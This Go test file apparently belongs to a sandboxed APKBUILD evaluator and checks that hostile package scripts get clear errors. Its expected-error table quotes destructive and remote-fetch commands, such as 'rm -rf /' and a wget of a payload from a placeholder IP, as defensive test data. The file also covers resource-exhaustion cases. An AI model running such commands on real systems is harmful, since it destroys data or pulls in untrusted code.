package apkbuild

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var hostileRoot = filepath.Join("testdata", "hostile")

// hostileWant maps each hostile aport to a part of the error it must get.
var hostileWant = map[string]string{
	"rm-rf":           `rm-rf/APKBUILD:5: run "rm -rf /": external programs are not run`,
	"wget":            `wget/APKBUILD:5: run "wget -qO- http://203.0.113.1/payload": external programs are not run`,
	"endless-loop":    "endless-loop/APKBUILD:5: evaluate APKBUILD: time limit of 1s exceeded",
	"endless-assign":  "endless-assign/APKBUILD:4: evaluate APKBUILD: time limit of 1s exceeded",
	"grow":            "grow/APKBUILD:6: evaluate APKBUILD: variable _s holds 2097152 bytes, over the limit of 1048576",
	"printf-width":    "printf-width/APKBUILD:4: evaluate printf: field width 100000000 is over the limit",
	"syntax-error":    "syntax-error/APKBUILD:6: parse APKBUILD:",
	"missing-pkgver":  "missing-pkgver/APKBUILD: check APKBUILD: pkgver is not set",
	"invalid-version": `invalid-version/APKBUILD:2: check APKBUILD: invalid version "1.2.3-beta"`,
	"write-file":      `write-file/APKBUILD:4: open "/tmp/apkfarm-pwned": APKBUILDs may not open files`,
	"source-file":     `source-file/APKBUILD:4: run ".": builtin not allowed`,
	"exit":            "exit/APKBUILD:4: evaluate APKBUILD: exit at top level",
	"recursion":       "recursion/APKBUILD:5: evaluate APKBUILD: more than 1000 function calls (endless recursion?)",
	"eval-recursion":  "eval-recursion/APKBUILD:5: evaluate APKBUILD: more than 1000 function calls (endless recursion?)",
	"printf-star":     "printf-star/APKBUILD:4: evaluate printf: field width 200000000 is over the limit",
	"replace-all":     "replace-all/APKBUILD:5: evaluate APKBUILD: a replacement with expansions in ${v//pattern/replacement} is not supported",
	"subst-loop":      "subst-loop/APKBUILD:6: evaluate APKBUILD: command substitution output over the limit of 4194304 bytes",
	"printf-repeat":   "printf-repeat/APKBUILD:7: evaluate printf: output of about",
	"nested-default":  "nested-default/APKBUILD:5: evaluate APKBUILD: 40200 expansions in one word is over the limit of 256",
	"background":      "background/APKBUILD:4: evaluate APKBUILD: background commands (&) are not supported",
	"big-string":      "big-string/APKBUILD: read APKBUILD: 100000023 bytes is over the limit of 1048576",
	"eval-line":       `eval-line/APKBUILD:6: run "exec": builtin not allowed`,
	"good":            "",
}

// TestHostile scans a tree of hostile APKBUILDs next to a good one: each
// hostile aport gets its own clear error, within the time limit, and the
// good one is read.
func TestHostile(t *testing.T) {
	root := t.TempDir()
	if err := os.CopyFS(root, os.DirFS(hostileRoot)); err != nil {
		t.Fatal(err)
	}
	// A 100 MB string, generated rather than committed.
	big := filepath.Join(root, "big-string")
	if err := os.MkdirAll(big, 0o755); err != nil {
		t.Fatal(err)
	}
	content := "pkgname=big\npkgdesc=\"" + strings.Repeat("x", 100_000_000) + "\"\n"
	if err := os.WriteFile(filepath.Join(big, "APKBUILD"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Remove("/tmp/apkfarm-pwned")

	start := time.Now()
	res, err := Scan(context.Background(), root, ScanOptions{Arches: []string{"x86_64", "armv7"}, Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("scan took %v, want the time limits to bound it", d)
	}
	for _, arch := range []string{"x86_64", "armv7"} {
		got := map[string]*Aport{}
		for _, a := range res.Aports[arch] {
			got[a.Path] = a
		}
		for name, want := range hostileWant {
			t.Run(name+"/"+arch, func(t *testing.T) {
				a := got[name]
				if a == nil {
					t.Fatalf("aport %s missing from the scan", name)
				}
				if want == "" {
					if a.Error != "" || a.Pkgname != "good" || !a.Applies {
						t.Fatalf("good aport: error %q, pkgname %q, applies %v", a.Error, a.Pkgname, a.Applies)
					}
					return
				}
				if !strings.Contains(a.Error, want) {
					t.Errorf("error %q\nwant it to contain %q", a.Error, want)
				}
			})
		}
	}
	if _, err := os.Stat("/tmp/apkfarm-pwned"); err == nil {
		t.Error("/tmp/apkfarm-pwned exists: a hostile APKBUILD wrote a file")
	}
	if n := len(res.Errors()); n != len(hostileWant)-1 {
		t.Errorf("Errors() has %d aports, want %d", n, len(hostileWant)-1)
	}
}

// TestWarnings checks constructs that are reported but do not fail the
// aport.
func TestWarnings(t *testing.T) {
	tests := []struct {
		name, src string
		want      string // part of the only warning
		check     func(t *testing.T, a *Aport)
	}{
		{
			name: "text tool in command substitution",
			src:  "pkgname=a\npkgver=1\npkgrel=0\narch=all\n_v=$(echo $pkgver | sed s/1/2/)\ndepends=\"x$_v\"\n",
			want: "APKBUILD:5: sed: external programs are not run",
			check: func(t *testing.T, a *Aport) {
				if strings.Join(a.Depends, " ") != "x" {
					t.Errorf("depends %q, want [x]", a.Depends)
				}
			},
		},
		{
			name: "pipeline into a text tool that reads nothing",
			src:  "pkgname=a\npkgver=1\npkgrel=0\narch=all\n_v=$(printf '%0900000d' 0 | tr 0 1)\ndepends=\"x$_v\"\n",
			want: "APKBUILD:5: tr: external programs are not run",
			check: func(t *testing.T, a *Aport) {
				if strings.Join(a.Depends, " ") != "x" {
					t.Errorf("depends %q, want [x]", a.Depends)
				}
			},
		},
		{
			name: "command -v",
			src:  "pkgname=a\npkgver=1\npkgrel=0\narch=all\ncommand -v gcc && depends=gcc\n",
			want: "APKBUILD:5: command -v gcc: PATH is not searched",
			check: func(t *testing.T, a *Aport) {
				if len(a.Depends) != 0 {
					t.Errorf("depends %q, want none", a.Depends)
				}
			},
		},
		{
			name: "undefined split function",
			src:  "pkgname=a\npkgver=1\npkgrel=0\narch=all\nsubpackages=\"$pkgname-extra\"\n",
			want: `APKBUILD:5: subpackage "a-extra": split function extra is not defined`,
			check: func(t *testing.T, a *Aport) {
				if len(a.Subpackages) != 1 || a.Subpackages[0].Name != "a-extra" {
					t.Errorf("subpackages %+v", a.Subpackages)
				}
			},
		},
		{
			name: "program in split function",
			src:  "pkgname=a\npkgver=1\npkgrel=0\narch=all\nsubpackages=\"$pkgname-x:_x\"\n_x() {\n\tdepends=\"$(uname -m)-dep\"\n}\n",
			want: "APKBUILD:7: uname: external programs are not run",
			check: func(t *testing.T, a *Aport) {
				if got := a.Subpackages[0].Depends; len(got) != 1 || got[0] != "-dep" {
					t.Errorf("subpackage depends %q, want [-dep]", got)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := Parse("t", []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			a := f.Eval(context.Background(), "x86_64")
			if a.Error != "" {
				t.Fatalf("error %q", a.Error)
			}
			if len(a.Warnings) != 1 || !strings.Contains(a.Warnings[0], tt.want) {
				t.Fatalf("warnings %q, want one containing %q", a.Warnings, tt.want)
			}
			tt.check(t, a)
		})
	}
}
